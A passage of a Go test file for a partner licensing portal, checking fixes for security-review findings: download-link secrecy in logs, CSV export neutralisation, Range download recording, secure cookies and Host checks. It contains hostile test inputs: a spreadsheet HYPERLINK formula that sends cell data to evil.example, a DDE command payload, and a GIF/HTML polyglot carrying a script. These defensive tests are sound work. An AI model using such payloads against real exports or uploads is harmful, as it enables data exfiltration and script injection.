package server_test

// Tests of the security review's findings: each fails on the code before its fix.

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"partnerdesk/internal/app/apptest"
	"partnerdesk/internal/desk"

	"github.com/PuerkitoBio/goquery"
	"github.com/labstack/echo/v4"
)

// startLogged starts PartnerDesk with its log captured.
func startLogged(t *testing.T, format string) (*apptest.Env, *apptest.SyncBuffer) {
	buf := &apptest.SyncBuffer{}
	env := apptest.StartWith(t, func(c *apptest.Config) {
		c.Logger = slog.New(slog.NewTextHandler(buf, nil))
		if format == "json" {
			c.Logger = slog.New(slog.NewJSONHandler(buf, nil))
		}
	})
	return env, buf
}

// secCopyLink issues a shared download link of a Contoso purchase as the admin agent.
func secCopyLink(t *testing.T, env *apptest.Env) (token string, ed desk.Edition, entID string) {
	t.Helper()
	ent, p := swPurchase(t, env, apptest.ContosoID, "Windows Server 2022 Standard - 2 Core")
	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
	ed, ok := p.Edition(ref)
	if !ok {
		t.Fatal("no edition")
	}
	u, _, err := env.App.Store.FindUserByEmail(context.Background(), apptest.AdminAgent)
	if err != nil {
		t.Fatal(err)
	}
	link, err := env.App.Service.IssueLink(context.Background(), desk.Actor{User: u, IP: "127.0.0.1"}, apptest.ContosoID, ent, ref, true)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimPrefix(link.URL, "/dl/"), ed, ent
}

// Finding 2: no logger and no error log writes a signed download link (the request log, the
// error handler, the panic log, the API's), in text or JSON.
func TestLogsNeverHoldSignedLinks(t *testing.T) {
	for _, format := range []string{"text", "json"} {
		t.Run(format, func(t *testing.T) {
			env, buf := startLogged(t, format)
			token, _, _ := secCopyLink(t, env)
			env.App.Server.AddTestRoute(http.MethodGet, "/dl/:token/panic", func(echo.Context) error { panic("boom") })
			anon := env.Client()
			for _, r := range []struct {
				method, path string
				headers      []string
			}{
				{"GET", "/dl/" + token, nil},
				{"HEAD", "/dl/" + token, nil},
				{"GET", "/dl/" + token, []string{"Range", "bytes=0-9"}},
				{"GET", "/dl/" + token + "x", nil},        // a damaged link: 403
				{"GET", "/dl/" + token + "/more", nil},    // no such route
				{"POST", "/dl/" + token, nil},             // no such method
				{"GET", "/dl/" + token + "/panic", nil},   // a panic
				{"GET", "/v1/dl/" + token, nil},           // the API's 404
				{"GET", "/signin?next=/dl/" + token, nil}, // the query is never logged either
			} {
				req, _ := http.NewRequest(r.method, env.URL+r.path, nil)
				for i := 0; i+1 < len(r.headers); i += 2 {
					req.Header.Set(r.headers[i], r.headers[i+1])
				}
				env.Do(t, anon, req)
			}
			// An outage: the error handlers log the failure of the portal and of the API.
			env.App.Store.Close()
			if res := env.Get(t, anon, "/dl/"+token); res.StatusCode != http.StatusInternalServerError {
				t.Errorf("/dl/ with the database closed: %d, want 500", res.StatusCode)
			}
			if res := env.Get(t, anon, "/v1/customers", "Authorization", "Bearer pdk_"+strings.Repeat("a", 40)); res.StatusCode != http.StatusInternalServerError {
				t.Errorf("API with the database closed: %d, want 500", res.StatusCode)
			}
			out := buf.String()
			for _, part := range append([]string{token}, strings.Split(token, ".")...) {
				if strings.Contains(out, part) {
					t.Fatalf("the log holds the signed link (%q):\n%s", part, out)
				}
			}
			for _, want := range []string{"/dl/:token", "panic", "boom", "internal error", "api internal error"} {
				if !strings.Contains(out, want) {
					t.Errorf("the log lacks %q:\n%s", want, out)
				}
			}
		})
	}
}

// Finding 4: the support form's order reference is an identifier, and the exports neutralise
// every cell a spreadsheet would run as a formula, also after leading spaces or tabs, and in
// every column (the order column was written raw).
func TestExportsNeutraliseFormulas(t *testing.T) {
	env := apptest.Start(t)
	ctx := context.Background()
	admin := env.SignIn(t, apptest.AdminAgent)
	before := cnSupportCount(t, env)
	for _, ref := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Refund")`, " =1+1", "|calc", "ORDER 1"} {
		f := cnSupportFields()
		f.Set("order_ref", ref)
		res := cnFileSupport(t, env, admin, f)
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(testid(doc(t, res.Body), "field-error-order_ref").Text()+res.Body, "order ID or a subscription ID") {
			t.Errorf("order reference %q: %d, want 422 naming the field", ref, res.StatusCode)
		}
	}
	if n := cnSupportCount(t, env); n != before {
		t.Fatalf("%d support requests stored from refused forms", n-before)
	}
	// Events with formula-like text in every text column (as older data, or any other route,
	// could hold): the export neutralises each.
	cells := []string{"=1+1", " +1", "\t-2+3", "@SUM(A1)", "|calc", "%0A", "  =cmd|' /C calc'!A0", "\r=1", "＝1"}
	for i, v := range cells {
		actAppend(t, env, desk.Event{At: apptest.Epoch.Add(time.Duration(i) * time.Second), Operation: desk.OpFileSupport, ResourceType: "support_request",
			CustomerID: apptest.ContosoID, CustomerName: v, ActorEmail: v, Product: v, OrderID: v, IP: "127.0.0.1", Detail: v})
	}
	_, recs := actCSV(t, env, env.SignIn(t, apptest.GlobalAdmin), url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpFileSupport}})
	if len(recs)-1 != len(cells) {
		t.Fatalf("%d rows, want %d", len(recs)-1, len(cells))
	}
	for _, r := range recs[1:] {
		for _, col := range []string{"customerName", "userPrincipalName", "product", "orderId", "detail"} {
			if v := actCol(t, [][]string{recs[0], r}, 1, col); !strings.HasPrefix(v, "'") {
				t.Errorf("%s %q is not neutralised", col, v)
			}
		}
	}
	// The invoice export too: a customer named like a formula, with an order.
	ga := env.SignIn(t, apptest.GlobalAdmin)
	id := actNewCustomer(t, env, ga, "|calc Ltd.", "pipecalc")
	offer, _ := demoOfferPair(t)
	o, _, err := env.App.Service.PlaceOrder(ctx, env.Actor(t, apptest.SalesAgent), id, "csv-pipe", []desk.CartLine{{OfferID: offer, Quantity: 1}})
	if err != nil {
		t.Fatal(err)
	}
	res := env.Get(t, env.SignIn(t, apptest.BillingAdmin), "/billing/invoices/"+desk.InvoiceID(desk.Period(o.CreatedAt), o.Currency)+"/csv")
	if res.StatusCode != http.StatusOK || !strings.Contains(res.Body, ",'|calc Ltd.,") || strings.Contains(res.Body, ",|calc") {
		t.Errorf("invoice export: %d, the customer name not neutralised:\n%.600s", res.StatusCode, res.Body)
	}
	// Amounts stay plain numbers, credits negative, so that the spreadsheet can add them up.
	if !regexp.MustCompile(`,-?[0-9]+,-?[0-9]+,-?[0-9]+,HUF,`).MatchString(res.Body) {
		t.Errorf("invoice amounts are not plain numbers:\n%.600s", res.Body)
	}
}

// demoOfferPair is a perpetual Windows Server offer (sold in every market).
func demoOfferPair(t *testing.T) (string, string) {
	t.Helper()
	o := apptest.Offer(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone)
	return o.ID, o.Title
}

// secFreshLink places a fresh order of a Windows Server licence for Contoso and copies a link to
// it: a purchase that has never been downloaded.
func secFreshLink(t *testing.T, env *apptest.Env) (path string, ed desk.Edition, o desk.Order) {
	t.Helper()
	o = env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
	ent := o.Lines[0].EntitlementID
	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
	link, err := env.App.Service.IssueLink(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID, ent, ref, true)
	if err != nil {
		t.Fatal(err)
	}
	_, items, err := env.App.Service.Software(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID)
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range items {
		if it.ID == ent {
			ed, _ = it.Product.Edition(ref)
		}
	}
	return link.URL, ed, o
}

// secDownloaded reports whether the purchase is marked downloaded, and how many shared-link
// downloads of its order are recorded.
func secDownloaded(t *testing.T, env *apptest.Env, o desk.Order) (bool, int) {
	t.Helper()
	it := secItem(t, env, o.Lines[0].EntitlementID)
	n := 0
	for _, e := range env.EventsSinceEpoch(t, desk.OpSharedDownload, 500) {
		if e.OrderID == o.ID {
			n++
		}
	}
	return !it.DownloadedAt.IsZero(), n
}

func secItem(t *testing.T, env *apptest.Env, ent string) desk.SoftwareItem {
	t.Helper()
	_, it, err := env.App.Service.SoftwareItem(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID, ent)
	if err != nil {
		t.Fatal(err)
	}
	return it
}

// Finding 1: a shared link fetched with any Range that sends content marks the purchase
// downloaded — so the cancel dialog no longer offers full credit for it — and is recorded; at
// most one range is served per request; answers without content record nothing.
func TestRangeDownloadsAreRecorded(t *testing.T) {
	env := apptest.Start(t)
	anon := env.Client()
	for _, tt := range []struct {
		name    string
		headers []string
		method  string
		status  int
		whole   bool // the body is the whole file
		marked  bool
	}{
		{"whole file", nil, "GET", 200, true, true},
		{"bytes=0-huge", []string{"Range", "bytes=0-99999999999"}, "GET", 206, true, true},
		{"bytes=-size", []string{"Range", "bytes=-%d"}, "GET", 206, true, true},
		{"bytes=-huge", []string{"Range", "bytes=-99999999999"}, "GET", 206, true, true},
		{"skips the first byte", []string{"Range", "bytes=1-"}, "GET", 206, false, true},
		{"a suffix", []string{"Range", "bytes=-100"}, "GET", 206, false, true},
		{"a middle piece", []string{"Range", "bytes=10-19"}, "GET", 206, false, true},
		{"two ranges", []string{"Range", "bytes=0-0,1-"}, "GET", 200, true, true},
		{"many ranges", []string{"Range", "bytes=0-9,10-19,20-29,30-"}, "GET", 200, true, true},
		{"overlapping ranges", []string{"Range", "bytes=0-,0-,0-"}, "GET", 200, true, true},
		{"If-Range that does not match", []string{"Range", "bytes=100-", "If-Range", `"stale"`}, "GET", 200, true, true},
		{"HEAD", nil, "HEAD", 200, false, false},
		{"HEAD with a range", []string{"Range", "bytes=0-"}, "HEAD", 206, false, false},
		{"not modified", []string{"If-None-Match", "%etag"}, "GET", 304, false, false},
		{"unsatisfiable", []string{"Range", "bytes=99999999999-"}, "GET", 416, false, false},
		{"not a byte range", []string{"Range", "items=0-1"}, "GET", 416, false, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			path, ed, o := secFreshLink(t, env)
			req, _ := http.NewRequest(tt.method, env.URL+path, nil)
			for i := 0; i+1 < len(tt.headers); i += 2 {
				v := tt.headers[i+1]
				v = strings.ReplaceAll(v, "%d", strconv.FormatInt(ed.Size, 10))
				v = strings.ReplaceAll(v, "%etag", strconv.Quote(ed.SHA256))
				req.Header.Set(tt.headers[i], v)
			}
			res := env.Do(t, anon, req)
			if res.StatusCode != tt.status {
				t.Fatalf("%s: status %d, want %d", tt.name, res.StatusCode, tt.status)
			}
			if ct := res.Header.Get("Content-Type"); strings.HasPrefix(ct, "multipart/") {
				t.Errorf("several ranges served as %s", ct)
			}
			if tt.whole && (int64(len(res.Body)) != ed.Size || apptest.SHA256([]byte(res.Body)) != ed.SHA256) {
				t.Errorf("body: %d bytes, want the whole file (%d)", len(res.Body), ed.Size)
			}
			marked, n := secDownloaded(t, env, o)
			if marked != tt.marked || (n == 1) != tt.marked || n > 1 {
				t.Fatalf("after %s: downloaded %v with %d shared-link download events, want %v", tt.name, marked, n, tt.marked)
			}
			if !tt.marked {
				return
			}
			// The cancel dialog sees it: a support request, not a cancellation.
			admin := env.SignIn(t, apptest.AdminAgent)
			d := doc(t, env.Get(t, admin, cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)+"/cancel?order_id="+o.ID).Body)
			if st := testid(d, "cancel-info").AttrOr("data-state", ""); st != desk.CancelNeedsSupport {
				t.Errorf("cancel dialog state %q after the download, want %s", st, desk.CancelNeedsSupport)
			}
		})
	}
	// A download resumed after the first one is the same download: no second event.
	path, _, o := secFreshLink(t, env)
	env.Get(t, anon, path)
	env.Get(t, anon, path, "Range", "bytes=100-")
	env.Get(t, anon, path, "Range", "bytes=200-299")
	if _, n := secDownloaded(t, env, o); n != 1 {
		t.Errorf("%d events for one download resumed twice", n)
	}
}

// Finding 1, the per-link claim (R11): a shared link's download is recorded once per link,
// claimed in the database by the link's hash whatever the Range — also when the purchase was
// downloaded before (the Admin agent's own Download) and the link's first request skips the
// first byte, which the earlier rule ("from the first byte, or the purchase's first download")
// let through unrecorded. Pieces of one link fetched at once record it once.
func TestSharedLinkDownloadClaimedOncePerLink(t *testing.T) {
	env := apptest.Start(t)
	ctx := context.Background()
	anon := env.Client()
	path, ed, o := secFreshLink(t, env)
	ent := o.Lines[0].EntitlementID
	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
	admin := env.Actor(t, apptest.AdminAgent)
	own, err := env.App.Service.IssueLink(ctx, admin, apptest.ContosoID, ent, ref, false)
	if err != nil {
		t.Fatal(err)
	}
	if res := env.Get(t, anon, own.URL); res.StatusCode != http.StatusOK {
		t.Fatalf("own download: %d", res.StatusCode)
	}
	if marked, n := secDownloaded(t, env, o); !marked || n != 0 {
		t.Fatalf("after the own download: downloaded %v, %d shared-link events", marked, n)
	}
	if res := env.Get(t, anon, path, "Range", "bytes=1-"); res.StatusCode != http.StatusPartialContent || int64(len(res.Body)) != ed.Size-1 {
		t.Fatalf("the copied link from its second byte: %d, %d bytes", res.StatusCode, len(res.Body))
	}
	if _, n := secDownloaded(t, env, o); n != 1 {
		t.Fatalf("the copied link's first download (skipping byte 0 of a downloaded purchase): %d events, want 1", n)
	}
	for _, r := range []string{"", "bytes=0-9", "bytes=-10", "bytes=0-", "bytes=5-5"} {
		if r == "" {
			env.Get(t, anon, path)
		} else {
			env.Get(t, anon, path, "Range", r)
		}
	}
	if _, n := secDownloaded(t, env, o); n != 1 {
		t.Fatalf("one link fetched six times: %d events, want 1", n)
	}
	// Another copied link of the purchase (a second later: another expiry, another link) is
	// another link: its first download is recorded.
	env.Clock.Advance(time.Second)
	link2, err := env.App.Service.IssueLink(ctx, admin, apptest.ContosoID, ent, ref, true)
	if err != nil || link2.URL == path {
		t.Fatalf("second link %q: %v", link2.URL, err)
	}
	env.Get(t, anon, link2.URL, "Range", "bytes=-10")
	if _, n := secDownloaded(t, env, o); n != 2 {
		t.Fatalf("a second link's download: %d events, want 2", n)
	}
	// Eight pieces of a third link at once: one event.
	env.Clock.Advance(time.Second)
	link3, err := env.App.Service.IssueLink(ctx, admin, apptest.ContosoID, ent, ref, true)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequest(http.MethodGet, env.URL+link3.URL, nil)
			req.Header.Set("Range", "bytes="+strconv.Itoa(i*10)+"-"+strconv.Itoa(i*10+9))
			if res, err := anon.Do(req); err == nil {
				io.Copy(io.Discard, res.Body)
				res.Body.Close()
			}
		}()
	}
	wg.Wait()
	if _, n := secDownloaded(t, env, o); n != 3 {
		t.Fatalf("eight pieces of a third link at once: %d events in all, want 3", n)
	}
}

// A link whose purchase is cancelled between the check and the first byte sends nothing.
func TestDeliveryRefusedAfterCancellation(t *testing.T) {
	env := apptest.Start(t)
	path, _, o := secFreshLink(t, env)
	dl, err := env.App.Service.CheckDownload(context.Background(), strings.TrimPrefix(path, "/dl/"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := env.App.Service.Cancel(context.Background(), env.Actor(t, apptest.AdminAgent), desk.CancelRequest{CustomerID: apptest.ContosoID, OrderID: o.ID, Lines: []int{0}}); err != nil {
		t.Fatal(err)
	}
	if err := env.App.Service.Deliver(context.Background(), dl, "203.0.113.1"); desk.ErrorCode(err) != desk.EGONE {
		t.Fatalf("delivery after the cancellation: %v, want EGONE", err)
	}
	if res := env.Get(t, env.Client(), path); res.StatusCode != http.StatusGone {
		t.Fatalf("GET after the cancellation: %d, want 410", res.StatusCode)
	}
}

// Finding 7 in the portal: the dialog and the API share the rule; a Global admin (and no one
// else) may cancel anyway a purchase that needs a support request, giving a reason that the
// activity log shows.
func TestCancelOverrideInDialog(t *testing.T) {
	env := apptest.Start(t)
	path, _, o := secFreshLink(t, env)
	env.Get(t, env.Client(), path) // downloaded through the shared link
	base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)

	// The Admin agent sees the support request link and no way around it.
	agent := env.SignIn(t, apptest.AdminAgent)
	d := doc(t, env.Get(t, agent, base+"/cancel?order_id="+o.ID).Body)
	if testid(d, "needs-support").Length() != 1 || testid(d, "override").Length() != 0 || testid(d, "cancel-submit").Length() != 0 {
		t.Fatalf("the Admin agent's dialog: needs-support %d, override %d, submit %d", testid(d, "needs-support").Length(), testid(d, "override").Length(), testid(d, "cancel-submit").Length())
	}
	form := url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}, "override": {"yes"}, "override_reason": {"SR-000042 approved"}}
	if res := env.PostForm(t, agent, base+"/cancel", form); res.StatusCode != http.StatusForbidden {
		t.Fatalf("an Admin agent's override: %d, want 403", res.StatusCode)
	}
	if res := env.PostForm(t, agent, base+"/cancel", url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}}); res.StatusCode != http.StatusBadRequest ||
		!strings.Contains(res.Body, "already been downloaded") {
		t.Fatalf("an Admin agent's cancellation: %d, want 400 saying why", res.StatusCode)
	}
	cnUnchanged(t, env, apptest.ContosoID, o.ID, "after the refused attempts")
	denied := false
	for _, ev := range env.EventsSinceEpoch(t, desk.OpPermissionDenied, 500) {
		denied = denied || strings.HasPrefix(ev.Detail, string(desk.PermOverrideCancelPolicy)+" ")
	}
	if !denied {
		t.Error("the Admin agent's refused override is not in the activity log")
	}

	// The Global admin sees the override: a reason, the Important message and its checkbox.
	global := env.SignIn(t, apptest.GlobalAdmin)
	d = doc(t, env.Get(t, global, base+"/cancel?order_id="+o.ID).Body)
	if testid(d, "override").Length() != 1 || testid(d, "override-reason").Length() != 1 || testid(d, "cancel-ack").Length() != 1 || testid(d, "cancel-submit").Length() != 1 {
		t.Fatal("the Global admin's dialog offers no override")
	}
	for name, f := range map[string]url.Values{
		"no reason":          {"order_id": {o.ID}, "acknowledge": {"yes"}, "override": {"yes"}, "override_reason": {"  "}},
		"no acknowledgement": {"order_id": {o.ID}, "override": {"yes"}, "override_reason": {"SR-000042 approved"}},
	} {
		if res := env.PostForm(t, global, base+"/cancel", f); res.StatusCode != http.StatusBadRequest || testid(doc(t, res.Body), "msg-danger").Length() != 1 {
			t.Errorf("%s: %d, want 400 with the message", name, res.StatusCode)
		}
	}
	cnUnchanged(t, env, apptest.ContosoID, o.ID, "after the incomplete overrides")
	res := env.PostForm(t, global, base+"/cancel", form, htmx()...)
	if res.StatusCode != http.StatusOK || testid(doc(t, res.Body), "cancel-confirmation").Length() != 1 {
		t.Fatalf("the Global admin's override: %d\n%.400s", res.StatusCode, res.Body)
	}
	if st, n := cnState(t, env, apptest.ContosoID, o.ID, 0); st != desk.StatusCancelled || n != 1 {
		t.Fatalf("after the override: %s, %d cancellations", st, n)
	}
	// The activity log names the override and its reason, in both languages.
	ref := env.SignIn(t, apptest.ReferralsAdmin)
	_, page := actPage(t, env, ref, url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpUpdateOrder}})
	if txt := page.Text(); !strings.Contains(txt, "support-request rule overridden: SR-000042 approved") {
		t.Errorf("the activity log does not show the override's reason")
	}
}

// secDo sends a request to the test server under a Host name, with cookies set by hand (the
// cookie jar keeps Secure cookies off plain HTTP).
func secDo(t *testing.T, env *apptest.Env, method, host, path string, form url.Values, cookies []*http.Cookie, headers ...string) *apptest.Response {
	t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, _ := http.NewRequest(method, env.URL+path, body)
	req.Host = host
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Sec-Fetch-Site", "same-origin")
	}
	for _, ck := range cookies {
		req.AddCookie(ck)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	return env.Do(t, env.Client(), req)
}

// Low findings: behind TLS (secure cookies) the site sends HSTS and names its cookies __Host-…;
// signed-in pages, one-time secrets and API answers are never cached; with a public base URL,
// links are built on it and other Host names get 421.
func TestSecureDeployment(t *testing.T) {
	const host = "desk.example.com"
	env := apptest.StartWith(t, func(c *apptest.Config) { c.SecureCookies, c.BaseURL = true, "https://DESK.example.com/" })

	// Another Host: 421, for the portal, the API and a download link; /healthz answers any Host.
	token, _, _ := secCopyLink(t, env)
	for _, p := range []string{"/signin", "/customers", "/v1/customers", "/v1/openapi.json", "/dl/" + token, "/static/css/app.css"} {
		for _, h := range []string{"evil.example", "desk.example.com.evil.example", "desk.example.com:8443", "127.0.0.1", ""} {
			res := secDo(t, env, "GET", h, p, nil, nil)
			if res.StatusCode != http.StatusMisdirectedRequest {
				t.Errorf("GET %s with Host %q: %d, want 421", p, h, res.StatusCode)
			}
			if strings.HasPrefix(p, "/v1/") && !strings.Contains(res.Body, `"code":421`) {
				t.Errorf("GET %s with Host %q: %s, want the API's JSON error", p, h, res.Body)
			}
		}
	}
	if res := secDo(t, env, "GET", "10.0.0.7:8080", "/healthz", nil, nil); res.StatusCode != http.StatusOK {
		t.Errorf("/healthz by address: %d", res.StatusCode)
	}
	for _, h := range []string{host, "DESK.EXAMPLE.COM", host + ":443"} {
		if res := secDo(t, env, "GET", h, "/signin", nil, nil); res.StatusCode != http.StatusOK {
			t.Errorf("GET /signin with Host %q: %d, want 200", h, res.StatusCode)
		}
	}

	// Sign in: the session cookie is __Host-, Secure, HttpOnly, for / and no domain; HSTS.
	res := secDo(t, env, "POST", host, "/signin", url.Values{"email": {apptest.GlobalAdmin}, "password": {"partnerdesk-demo"}}, nil)
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign in: %d", res.StatusCode)
	}
	var session *http.Cookie
	for _, ck := range res.Cookies() {
		if ck.Name == "__Host-pd_session" {
			session = ck
		}
	}
	if session == nil || !session.Secure || !session.HttpOnly || session.Path != "/" || session.Domain != "" {
		t.Fatalf("session cookie %+v (Set-Cookie %v)", session, res.Header.Values("Set-Cookie"))
	}
	if hsts := res.Header.Get("Strict-Transport-Security"); !strings.HasPrefix(hsts, "max-age=") {
		t.Errorf("no HSTS: %q", hsts)
	}
	jar := []*http.Cookie{{Name: session.Name, Value: session.Value}}
	// Signed-in pages, and the pages that show a one-time password or a new token: no-store.
	for _, r := range []struct {
		method, path string
		form         url.Values
	}{
		{"GET", "/customers", nil},
		{"GET", "/settings/activity", nil},
		{"POST", "/settings/users", url.Values{"email": {"one-time@partner.example"}, "display_name": {"One Time"}, "role": {"sales-agent"}}},
		{"POST", "/settings/tokens", url.Values{"email": {apptest.AdminAgent}, "name": {"nightly"}, "days": {"30"}}},
	} {
		res := secDo(t, env, r.method, host, r.path, r.form, jar)
		if res.StatusCode != http.StatusOK || res.Header.Get("Cache-Control") != "no-store" || res.Header.Get("Strict-Transport-Security") == "" {
			t.Errorf("%s %s: %d, Cache-Control %q, HSTS %q", r.method, r.path, res.StatusCode, res.Header.Get("Cache-Control"), res.Header.Get("Strict-Transport-Security"))
		}
	}
	// The language cookie is __Host- too.
	res = secDo(t, env, "POST", host, "/settings/language", url.Values{"locale": {"hu"}}, jar)
	if ck := res.Header.Get("Set-Cookie"); !strings.HasPrefix(ck, "__Host-pd_lang=hu") || !strings.Contains(ck, "Secure") {
		t.Errorf("language cookie %q", ck)
	}
	// Links are built on the base URL, whatever Host the request came with.
	ent, _ := swPurchase(t, env, apptest.ContosoID, "Windows Server 2022 Standard - 2 Core")
	res = secDo(t, env, "POST", host+":443", "/customers/"+apptest.ContosoID+"/software/"+ent+"/link",
		url.Values{"version": {"2022"}, "language": {"hu-hu"}, "bitness": {"64-bit"}}, jar, "HX-Request", "true")
	if link := testid(doc(t, res.Body), "link-value").AttrOr("value", ""); !strings.HasPrefix(link, "https://desk.example.com/dl/") {
		t.Errorf("copied link %q, want it on https://desk.example.com", link)
	}
	if res := secDo(t, env, "GET", host, "/settings/api", nil, jar); !strings.Contains(res.Body, "https://desk.example.com/v1/openapi.json") || strings.Contains(res.Body, "127.0.0.1") {
		t.Errorf("the API page's examples do not use the base URL")
	}
	_, secret, err := env.App.Service.CreateTokenCLI(context.Background(), apptest.AdminAgent, "base-url", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("POST", env.URL+"/v1/customers/"+apptest.ContosoID+"/entitlements/"+ent+"/downloadlinks",
		strings.NewReader(`{"version":"2022","language":"hu-hu","bitness":"64-bit"}`))
	req.Host = host
	req.Header.Set("Authorization", "Bearer "+secret)
	req.Header.Set("Content-Type", "application/json")
	res = env.Do(t, env.Client(), req)
	if res.StatusCode != http.StatusCreated || !strings.Contains(res.Body, `"url":"https://desk.example.com/dl/`) || res.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("API link: %d %s (Cache-Control %q)", res.StatusCode, res.Body, res.Header.Get("Cache-Control"))
	}
}

// Without TLS settings: no HSTS, plain cookie names; signed-in pages and API answers are still
// never cached, and the public OpenAPI document may be.
func TestCacheControlWithoutTLS(t *testing.T) {
	env := apptest.Start(t)
	res := env.Get(t, env.Client(), "/signin")
	if res.Header.Get("Strict-Transport-Security") != "" {
		t.Error("HSTS without secure cookies")
	}
	c := env.SignIn(t, apptest.AdminAgent)
	for _, p := range []string{"/customers", "/customers/" + apptest.ContosoID + "/software", "/support"} {
		if res := env.Get(t, c, p); res.StatusCode != http.StatusOK || res.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("GET %s: %d, Cache-Control %q", p, res.StatusCode, res.Header.Get("Cache-Control"))
		}
	}
	_, secret, err := env.App.Service.CreateTokenCLI(context.Background(), apptest.AdminAgent, "cache", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/v1/customers", "/v1/customers/" + unknownGUID, "/v1/nothing"} {
		if res := env.Get(t, env.Client(), p, "Authorization", "Bearer "+secret); res.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("GET %s: %d, Cache-Control %q", p, res.StatusCode, res.Header.Get("Cache-Control"))
		}
	}
	if res := env.Get(t, env.Client(), "/v1/openapi.json"); !strings.HasPrefix(res.Header.Get("Cache-Control"), "public") {
		t.Errorf("the OpenAPI document: Cache-Control %q", res.Header.Get("Cache-Control"))
	}
}

const unknownGUID = "00000000-0000-4000-8000-000000000000"

// Low finding: an attachment's name follows its sniffed type (a GIF that is also an HTML page,
// sent as .html, is saved as .gif), loses control and format characters (a right-to-left
// override), and is given per RFC 6266 with filename*.
func TestAttachmentNamesFollowTheirContent(t *testing.T) {
	env := apptest.Start(t)
	c := env.SignIn(t, apptest.AdminAgent)
	polyglot := []byte("GIF89a/*<html><script>alert(document.domain)</script></html>*/")
	res := cnFileSupport(t, env, c, cnSupportFields(), cnFile{"evil.html", polyglot}, cnFile{"számla\u202efdp.exe.png", cnPNG(t)})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("file a request: %d", res.StatusCode)
	}
	d := doc(t, env.Get(t, c, res.Header.Get("Location")).Body)
	links := testid(d, "attachments").Find("a")
	want := []struct{ name, ct, header string }{
		{"evil.gif", "image/gif", `attachment; filename="evil.gif"; filename*=UTF-8''evil.gif`},
		{"számlafdp.exe.png", "image/png", `attachment; filename="sz_mlafdp.exe.png"; filename*=UTF-8''sz%C3%A1mlafdp.exe.png`},
	}
	if links.Length() != len(want) {
		t.Fatalf("%d attachments listed", links.Length())
	}
	links.Each(func(i int, a *goquery.Selection) {
		if got := strings.TrimSpace(a.Text()); got != want[i].name {
			t.Errorf("attachment %d listed as %q, want %q", i, got, want[i].name)
		}
		res := env.Get(t, c, a.AttrOr("href", ""))
		if res.StatusCode != http.StatusOK || res.Header.Get("Content-Type") != want[i].ct || res.Header.Get("Content-Disposition") != want[i].header ||
			res.Header.Get("Content-Security-Policy") != "sandbox" || res.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("attachment %d: %d %q %q %q", i, res.StatusCode, res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"), res.Header.Get("Cache-Control"))
		}
	})
}

// Low finding: every 403 wrote an event, so a user refused in a loop flooded the activity log.
// Refusals are counted per user, route and minute in the database: the first is an event at
// once, the rest one event with their count once the minute is over; another route or another
// user is counted apart; the API's refusals likewise.
func TestDenialsAggregatedPerUserRouteMinute(t *testing.T) {
	env := apptest.Start(t)
	ctx := context.Background()
	denials := func() []desk.Event { return env.EventsSinceEpoch(t, desk.OpPermissionDenied, 500) }
	before := len(denials())
	sales := env.SignIn(t, apptest.SalesAgent)
	for i := 0; i < 30; i++ {
		if res := env.Get(t, sales, "/settings/activity?from=2026-11-0"+strconv.Itoa(1+i%9)); res.StatusCode != http.StatusForbidden {
			t.Fatalf("denial %d: %d", i, res.StatusCode)
		}
	}
	env.Get(t, sales, "/settings/users")                           // another route
	env.Get(t, env.SignIn(t, apptest.Helpdesk), "/settings/users") // another user
	if n := len(denials()) - before; n != 3 {
		t.Fatalf("%d permission_denied events for 30 refusals of one route, one of another and one of another user; want 3", n)
	}
	// Nothing is flushed while the minute runs.
	if n, err := env.App.Service.FlushDenials(ctx); err != nil || n != 0 {
		t.Fatalf("flush within the minute: %d, %v", n, err)
	}
	env.Clock.Advance(2 * time.Minute)
	if n, err := env.App.Service.FlushDenials(ctx); err != nil || n != 1 {
		t.Fatalf("flush after the minute: %d events, %v; want 1", n, err)
	}
	evs := denials()
	if len(evs)-before != 4 || evs[0].ActorEmail != apptest.SalesAgent || !strings.HasSuffix(evs[0].Detail, "(29 more in that minute)") {
		t.Fatalf("the summary event: %+v", evs[0])
	}
	d := desk.ParseDetail(evs[0].Operation, evs[0].Detail)
	if d.Kind != desk.DetailDenied || d.N != 29 || d.Path != "/settings/activity" || d.Permission != desk.PermViewActivityLog {
		t.Fatalf("the summary event's detail: %+v", d)
	}
